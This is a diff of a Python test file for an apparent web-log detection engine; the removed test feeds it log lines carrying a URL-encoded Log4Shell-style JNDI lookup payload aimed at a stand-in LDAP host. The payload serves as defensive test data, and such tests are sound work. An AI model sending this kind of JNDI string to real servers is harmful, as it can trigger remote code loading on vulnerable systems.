@@ -158,17 +158,6 @@ def test_a_million_sources_are_bounded_and_the_attacker_among_them_is_found():
     assert engine.sources.get("203.0.113.9") is not None, "innocents are dropped first"
 
 
-def test_a_reader_of_a_forum_with_a_hostile_picture_is_not_its_author():
-    own = (
-        "203.0.113.9\t203.0.113.9\t1795347611\t404\t1\t1\twww\tGET\tcross-site\t"
-        "GET /?q=%24%7Bjndi:ldap://x/{}%7D HTTP/1.1\tx\thttp://forum.example/\t-\n"
-    )
-    found: list[str] = []
-    engine = Engine(lambda name, _s, _at: bool(found.append(name)) or True)
-    engine.read("".join(own.replace("{}", str(n)) for n in range(3)), "own", "t")
-    assert found == []
-
-
 def test_a_trap_blocks_at_once_and_a_flood_where_a_limit_is_set():
     found: list[str] = []
     engine = Engine(lambda n, _s, _a: bool(found.append(n)) or True, traps=frozenset({"honey"}))
